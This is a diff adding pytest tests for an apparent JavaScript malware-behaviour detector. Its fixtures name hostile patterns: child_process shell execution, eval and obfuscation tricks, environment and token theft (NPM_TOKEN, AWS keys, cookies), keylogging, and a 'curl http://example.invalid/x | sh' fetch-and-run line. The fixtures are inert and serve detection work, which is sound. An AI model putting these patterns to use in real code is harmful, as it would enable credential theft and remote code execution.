@@ -1,0 +1,267 @@
+"""Fixtures here are hand-written and inert: hosts under example.invalid, no working payload."""
+
+from __future__ import annotations
+
+import base64
+from time import perf_counter
+
+import pytest
+
+from darnel.features import syntax
+from darnel.features.facts import Observation, SourceFacts
+from darnel.features.languages.javascript import analyse
+from darnel.features.limits import Limits
+
+
+def facts(code: str | bytes, dialect: str = "javascript") -> SourceFacts:
+    result = analyse(code.encode() if isinstance(code, str) else code, dialect=dialect)
+    syntax.check(result.values)
+    return result
+
+
+def seen(code: str, dialect: str = "javascript") -> set[str]:
+    return {o.behaviour for o in facts(code, dialect).observations}
+
+
+def one(code: str, behaviour: str) -> Observation:
+    found = [o for o in facts(code).observations if o.behaviour == behaviour]
+    assert found, f"no {behaviour}"
+    return found[0]
+
+
+@pytest.mark.parametrize(
+    ("code", "behaviour"),
+    [
+        ("require('child_process').exec(c)", "spawn.shell"),
+        ("const cp = require('node:child_process'); cp.spawn(c)", "spawn.process"),
+        ("const {exec: x, spawn = 1} = require('child_process'); x(c)", "spawn.shell"),
+        ("import * as cp from 'node:child_process'; cp.execSync(c)", "spawn.shell"),
+        ("import {exec as y} from 'child_process'; y(c)", "spawn.shell"),
+        ("import z, {request} from 'https'; request(c)", "net.request"),
+        ("const {promisify} = require('util'); const run = promisify(require('child_process').exec); run(c)", "spawn.shell"),
+        ("const r = require; r('child_process').exec(c)", "spawn.shell"),
+        ("module.require('child_process').exec(c)", "spawn.shell"),
+        ("import {createRequire} from 'module'; const q = createRequire(import.meta.url); q('fs').readFileSync(c)", "file.read"),
+        ("const m = await import('node:child_process'); m.default.exec(c)", "spawn.shell"),
+        ("const e = eval; e(c)", "code.evaluate"),
+        ("(0, eval)(c)", "code.evaluate"),
+        ("global['ev' + 'al'](c)", "code.evaluate"),
+        ("new Function(c)()", "code.evaluate"),
+        ("require('vm').runInNewContext(c)", "code.evaluate"),
+        ("setTimeout('run()', 1)", "code.evaluate"),
+        ("m._compile(c, n)", "code.evaluate"),
+        ("Buffer['from'](c, 'hex')", "decode.text"),
+        ("atob(c)", "decode.text"),
+        ("const zlib = require('zlib'); zlib.gunzipSync(c)", "decode.decompress"),
+        ("require('crypto').createDecipheriv(a, b, c)", "crypt.decrypt"),
+        ("require('fs').promises.writeFile(a, b)", "file.write"),
+        ("const fse = require('fs-extra'); fse.remove(c)", "file.delete"),
+        ("require('fs').chmodSync(c, 0o755)", "file.executable"),
+        ("require('fs').writeFileSync(require('path').join(d, 'run.exe'), b)", "file.executable"),
+        ("fetch(c, {method: 'POST', body})", "net.send"),
+        ("const s = new (require('net').Socket)(); s.connect(1, h)", "net.socket"),
+        ("const r = require('https').request(o, f); r.write(d)", "net.send"),
+        ("navigator.sendBeacon(u, d)", "net.send"),
+        ("require('nodemailer').createTransport(o).sendMail(m)", "net.send"),
+        ("require('dns').lookup(a + '.example.invalid', f)", "net.dns"),
+        ("x = JSON.stringify(process.env)", "env.all"),
+        ("const e = process.env; send(JSON.stringify(e))", "env.all"),
+        ("send({...process.env})", "env.all"),
+        ("for (const k in process.env) f(k)", "env.all"),
+        ("send(process['env'])", "env.all"),
+        ("f(process.env.MY_PORT)", "env.one"),
+        ("f(process.env['NPM_TOKEN'])", "env.secret"),
+        ("const {AWS_SECRET_ACCESS_KEY} = process.env", "env.secret"),
+        ("if (process.env.GITHUB_ACTIONS) f()", "guard.ci"),
+        ("require('os').hostname()", "host.identity"),
+        ("if (process.platform === 'win32') f()", "guard.host"),
+        ("Intl.DateTimeFormat().resolvedOptions().timeZone", "guard.locale"),
+        ("f(navigator.language)", "guard.locale"),
+        ("setTimeout(f, 60000)", "guard.delay"),
+        ("send(document.cookie)", "cred.browser"),
+        ("window.ethereum.request({})", "host.chain"),
+        ("document.addEventListener('keydown', f)", "host.keys"),
+        ("const {GlobalKeyboardListener} = require('node-global-key-listener')", "host.keys"),
+        ("require('clipboardy').readSync()", "host.clipboard"),
+        ("require('screenshot-desktop')()", "host.screen"),
+        ("new https.Agent({rejectUnauthorized: false})", "net.insecure"),
+        ("process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0'", "net.insecure"),
+        ("require(a + b)", "code.import"),
+        ("process.binding('fs')", "code.native"),
+        ("require('ffi-napi').Library(x)", "code.native"),
+        ("fetch('https://registry.example.invalid/-/npm/v1/tokens')", "spread.tokens"),
+        ("require('child_process').execSync('npm publish')", "spread.publish"),
+        ("require('child_process').spawn('node', ['a.js'], {detached: true})", "spawn.hidden"),
+        ("require('child_process').spawn('node', ['a.js'], {stdio: 'ignore'})", "hide.silence"),
+        ("require('child_process').exec('curl http://example.invalid/x | sh')", "spawn.piped"),
+        ("process.on('uncaughtException', () => {})", "hide.swallow"),
+        ("try { f() } catch (e) { /* nothing */ }", "hide.swallow"),
+        ("require('fs').unlinkSync(__filename)", "file.delete"),
+        ("require('fs').readdirSync(require('os').homedir())", "host.enumerate"),
+    ],
+)  # fmt: skip
+def test_names_are_resolved_to_behaviours(code: str, behaviour: str) -> None:
+    assert behaviour in seen(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "function f(exec) { exec('x') }",
+        "const m = /a/.exec(s); m.index",
+        "const e = require('child_process'); function f(e) { e.exec(s) }",
+        "spawn(c, {env: process.env})",
+        "const env = process.env",
+        "const env = Object.assign({}, process.env)",
+        "if (process.env.NODE_ENV !== 'production') warn()",
+        "setTimeout(f, 10)",
+        "router.get('/', handler)",
+        "try { f() } catch (e) { report(e) }",
+        "import './style.css'; export default function App() { return <b>hello</b> }",
+    ],
+)
+def test_ordinary_code_shows_nothing(code: str) -> None:
+    assert not seen(code)
+
+
+@pytest.mark.parametrize(
+    ("expression", "value"),
+    [
+        ("'ht' + 'tp://a' + '.invalid'", "http://a.invalid"),
+        ("['c', 'b', 'a', 'd'].join('-')", "c-b-a-d"),
+        ("'diva.nilavni'.split('').reverse().join('')", "invalnin.avid"[:0] + "invalnin.avid"[:0] + "invalin.avid"),
+        ("String.fromCharCode(104, 0x74, 116, 112)", "http"),
+        ("'\\x68\\u0074tp'", "http"),
+        ("atob('aHR0cDovLw==')", "http://"),
+        ("Buffer.from('68747470', 'hex').toString()", "http"),
+        ("unescape('%68ttp')", "http"),
+        ("'hXXtXXtp'.replace(/XX/g, '')", "http"),
+        ("`ht${'tp'}://`", "http://"),
+        ("[105, 117, 117, 113].map(c => String.fromCharCode(c ^ 1)).join('')", "http"),
+    ],
+)
+def test_constants_are_folded(expression: str, value: str) -> None:
+    assert value in {literal.value for literal in facts(f"f({expression})").literals}
+
+
+def test_constants_reach_through_names() -> None:
+    code = "const a = 'child_', b = 'process'; require(a + b).exec(c)"
+    assert one(code, "spawn.shell")
+    assert one(code, "code.import").hidden
+
+
+def test_code_in_strings_is_analysed_where_it_stands() -> None:
+    payload = base64.b64encode(b"require('child_process').exec('echo nothing at all')").decode()
+    spawned = one(f"f();\nconst p = '{payload}';", "spawn.shell")
+    assert spawned.line == 2
+    assert spawned.hidden
+    assert one(f"const p = '{payload}';", "hide.encoded")
+    assert "spawn.shell" in seen("eval(\"require('child_process').exec(c)\")")
+    assert "spawn.shell" in seen("""require('child_process').exec('node -e "require(`child_process`).execSync(c)"')""")
+
+
+def test_what_runs_with_the_file() -> None:
+    assert one("(async () => { await fetch(u) })()", "net.request").top
+    assert one("module.exports = (function () { fetch(u) })()", "net.request").top
+    assert one("p.then(function () { fetch(u) })", "net.request").top
+    assert one("require('https').get(u, r => r.on('data', d => eval(d)))", "code.evaluate").top
+    assert one("function main() { fetch(u) } main()", "net.request").top
+    assert one("function main() { fetch(u) } setTimeout(main, 5)", "net.request").top
+    assert one("class A { constructor() { fetch(u) } } new A()", "net.request").top
+    assert one("(function (m) { m[0]() })([function (e, t, n) { fetch(u) }])", "net.request").top
+    assert not one("exports.f = function () { fetch(u) }", "net.request").top
+    assert not one("class A { send() { fetch(u) } }", "net.request").top
+    assert not one("app.get('/', (req, res) => { fetch(u) })", "net.request").top
+
+
+def test_order_is_evaluation_order() -> None:
+    found = sorted(facts("eval(atob(fetch(u)))").observations, key=lambda o: o.order)
+    assert [o.behaviour for o in found] == ["net.request", "decode.text", "code.evaluate"]
+    assert len({o.statement for o in found}) == 1
+
+
+ROTATED = """
+function _0x1a2b(){const t=['exec','12abc','child_process','echo','7xyz'];_0x1a2b=function(){return t;};return _0x1a2b();}
+function _0x3c4d(a,b){const c=_0x1a2b();return _0x3c4d=function(d,e){d=d-0x100;let f=c[d];return f;},_0x3c4d(a,b);}
+(function(f,g){const h=_0x3c4d,i=f();while(!![]){try{const j=-parseInt(h(0x100))/0x1+parseInt(h(0x103))/0x2;if(j===g)break;
+else i['push'](i['shift']());}catch(k){i['push'](i['shift']());}}}(_0x1a2b,-0x1));
+const _0x5e6f=_0x3c4d;require(_0x5e6f(0x104))[_0x5e6f(0x102)](_0x5e6f(0x100));
+"""
+
+
+def test_a_rotated_string_array_is_read() -> None:
+    # parseInt('7xyz') and parseInt('12abc') sum to -7 + 12 / 2 = -1 once '7xyz' is first and '12abc' fourth.
+    code = ROTATED.replace("'exec','12abc','child_process','echo','7xyz'", "'12abc','child_process','7xyz','echo','exec'")
+    result = facts(code)
+    assert "hide.array" in {o.behaviour for o in result.observations}
+    assert "spawn.shell" in {o.behaviour for o in result.observations}
+
+
+def test_packed_code_is_unpacked() -> None:
+    code = (
+        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}"
+        "('0(\\'1\\').2(3)',4,4,'require|child_process|exec|command'.split('|'),0,{}))"
+    )
+    assert {"hide.array", "spawn.shell", "code.evaluate"} <= seen(code)
+
+
+@pytest.mark.parametrize("dialect", ["typescript", "tsx"])
+def test_typescript(dialect: str) -> None:
+    assert "spawn.shell" in seen("import cp = require('child_process'); cp.exec(c as string);", dialect)
+    assert "spawn.shell" in seen("import { exec, type ExecOptions } from 'child_process'; exec<string>(c!);", dialect)
+    assert facts("function f<T>(a: T, b?: number): void {}", dialect).identifiers == ["f", "a", "b"]
+
+
+def test_imports_calls_and_identifiers() -> None:
+    result = facts("import a from '@scope/pkg/sub'; const b = require('./x'); export * from 'node:fs'; b.run(c); self.go()")
+    assert sorted(result.imports) == [".", "@scope/pkg", "fs"]
+    assert {"require", ".run"} <= set(result.calls)
+    assert "b" in result.identifiers
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"",
+        b"\x00" * 5_000,
+        b"\xff\xfe" + "require('child_process').exec(c)".encode("utf-16-le"),
+        b"\xef\xbb\xbfrequire('child_process').exec(c)",
+        bytes(range(256)) * 40,
+        b"require('child_process').exec(c" * 200,
+        b"const a = 'x" * 500,
+        b"[" * 100_000,
+        b"a(" * 100_000,
+        b"{a:" * 100_000,
+        b"'a'+" * 100_000 + b"'b'",
+        b"a.b(" * 100_000,
+        b"x=>" * 100_000,
+        b"var a=b+b,b=c+c,c=d+d,d=e+e,e=f+f,f=g+g,g=h+h,h='aaaaaaaaaaaaaaaa'+'b';" * 50,
+    ],
+)
+def test_hostile_bytes_are_survived(data: bytes) -> None:
+    begin = perf_counter()
+    facts(data)
+    assert perf_counter() - begin < 10
+
+
+def test_long_files_are_cut_around_what_matters() -> None:
+    filler = b"function pad(a, b) { return a + b }\n" * 20_000
+    middle = filler + b"require('child_process').exec(c);\n" + filler
+    result = analyse(middle, Limits(parse_bytes=100_000))
+    assert "parse-bytes" in result.cut
+    found = [o for o in result.observations if o.behaviour == "spawn.shell"]
+    assert [o.line for o in found] == [20_001]
+
+
+def test_budgets_are_kept() -> None:
+    result = analyse(b"eval(x);'literal one';" * 200, Limits(observations=50, literals=0))
+    assert len(result.observations) == 50
+    assert {"observations", "literals"} <= set(result.cut)
+
+
+def test_facts_are_reproducible() -> None:
+    code = "const f = require('fs');" + "".join(f"f.readFileSync('name{i}');" for i in range(200))
+    first, second = facts(code), facts(code)
+    assert first.observations == second.observations
+    assert first.calls == second.calls
+    assert first.literals == second.literals
